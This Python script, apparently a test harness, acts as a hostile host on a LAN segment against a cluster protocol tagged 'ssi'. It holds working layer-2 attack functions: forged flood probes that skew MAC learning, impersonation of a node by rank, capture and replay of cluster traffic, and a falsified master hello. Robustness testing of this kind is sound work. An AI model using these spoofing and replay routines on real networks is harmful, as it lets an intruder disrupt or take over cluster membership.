#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only
"""A stranger on eth0, who can send in the nodes' VLAN, eth0.100, too.

probes BASE own    a flood probe a second to the base MAC, from the own MAC, with the number that makes nodes that hear
                   it take the network for one that floods
probes BASE BASE   20 a second, from the base MAC itself, with a number that makes them take it for one that learns
usurp RANK         what that node says of itself, 20 times a second, from this host's own MAC
record FILE N      what nodes say in the VLAN, until so many hellos of the master are among it
replay FILE S      says it again, and again, for so many seconds
lie BASE           the hello of rank 1 of that cluster, heard on eth0, with one node more, 20 times a second, from this host's own MAC
lro DEVICE         whether the interface merges segments by itself (on or off)

But for the last two each goes on until it is ended. What it does is told, a line a second.
"""

import array
import fcntl
import socket
import struct
import sys
import time

KIND = 0x88B5
ETHERNET = 14
SOL_PACKET, ADD_MEMBERSHIP, PROMISC = 263, 1, 1
MASTER = 1


def wire(device):
    """A socket that hears the nodes' frames, whoever they are to."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(KIND))
    s.bind((device, KIND))
    index = socket.if_nametoindex(device)
    s.setsockopt(SOL_PACKET, ADD_MEMBERSHIP, struct.pack("iHH8s", index, PROMISC, 0, b""))
    return s


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def own(s):
    return s.getsockname()[4][:6]


def heard(s):
    """Frames of others."""
    while True:
        frame, address = s.recvfrom(2048)
        if address[2] != socket.PACKET_OUTGOING and frame[14:17] == b"ssi":
            yield frame


def kind(frame):
    return frame[ETHERNET + 4]


def rank(frame):
    return struct.unpack_from(">I", frame, ETHERNET + 16)[0]


def is_masters(frame):
    return kind(frame) == 1 and frame[ETHERNET + 5] & MASTER


def probes(base, source):
    nodes, clients = wire("eth0.100"), wire("eth0")
    base, is_own = mac(base), source == "own"
    source = own(clients) if is_own else mac(source)
    for frame in heard(nodes):
        if not is_masters(frame):
            continue
        # Magic, version, kind, flags and cluster as the hello has them; its number is the one that counts next.
        head = bytearray(frame[ETHERNET : ETHERNET + 56])
        head[4], head[36:38] = 0, b"\0\0"
        if not is_own:
            head[12:16] = b"\xff\0\0\0"
        # The master's own flood probe, which comes now, takes the MAC to its port; a ping's answer takes it back.
        time.sleep(0.3 if is_own else 0)
        for _ in range(1 if is_own else 20):
            clients.send(base + source + struct.pack(">H", KIND) + bytes(head))
            print("probe", flush=True)
            time.sleep(0 if is_own else 0.045)


def usurp(whose):
    nodes = wire("eth0.100")
    nodes.settimeout(0.05)
    last = {}
    while True:
        try:
            frame = next(heard(nodes))
            if rank(frame) == whose and frame[6:12] != own(nodes):
                last[kind(frame)] = frame[:6] + own(nodes) + frame[12:]
        except TimeoutError:
            for frame in last.values():
                nodes.send(frame)


def record(path, count):
    nodes = wire("eth0.100")
    frames, masters = [], 0
    for frame in heard(nodes):
        frames.append(frame)
        masters += bool(is_masters(frame))
        if masters >= count:
            break
    with open(path, "wb") as out:
        for frame in frames:
            out.write(struct.pack(">H", len(frame)) + frame)


def replay(path, seconds):
    nodes = wire("eth0.100")
    data, frames = open(path, "rb").read(), []
    while data:
        length = struct.unpack_from(">H", data)[0]
        frames.append(data[2 : 2 + length])
        data = data[2 + length :]
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for frame in frames:
            nodes.send(frame)
            time.sleep(0.01)


def lie(base):
    clients = wire("eth0")
    group = bytes([mac(base)[0] | 1]) + mac(base)[1:]
    frames = (frame for frame in heard(clients) if frame[:6] == group and kind(frame) == 1 and rank(frame) == 1)
    said = bytearray(next(frames))
    said[6:12] = own(clients)
    said[ETHERNET + 56 + 3] += 1
    while True:
        clients.send(bytes(said))
        print("lie", flush=True)
        time.sleep(0.05)


def lro(device):
    get_flags, flag = 0x25, 1 << 15
    value = array.array("B", struct.pack("II", get_flags, 0))
    request = struct.pack("16sP", device.encode(), value.buffer_info()[0])
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        fcntl.ioctl(s, 0x8946, request)
    print("on" if struct.unpack("II", value)[1] & flag else "off")


what, *args = sys.argv[1:]
match what:
    case "probes":
        probes(*args)
    case "usurp":
        usurp(int(args[0]))
    case "record":
        record(args[0], int(args[1]))
    case "replay":
        replay(args[0], float(args[1]))
    case "lie":
        lie(args[0])
    case "lro":
        lro(args[0])
